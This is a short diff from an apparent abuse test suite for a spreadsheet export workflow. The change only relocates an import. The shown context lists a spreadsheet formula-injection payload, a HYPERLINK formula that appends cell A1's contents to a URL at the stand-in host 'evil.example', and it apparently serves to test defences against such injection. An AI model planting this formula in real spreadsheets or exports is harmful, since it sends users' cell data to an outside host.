@@ -11,7 +11,7 @@ import openpyxl
 
 from actionplans import workflow
 from tests.abuse.guards import seen_to_fail, without
-from tests.reports.test_publish import PUBLIC, ROUND, PublishCase
+from tests.reports.base import PUBLIC, ROUND, PublishCase
 
 FORMULAS = (
     '=HYPERLINK("https://evil.example/?"&A1,"Read more")',
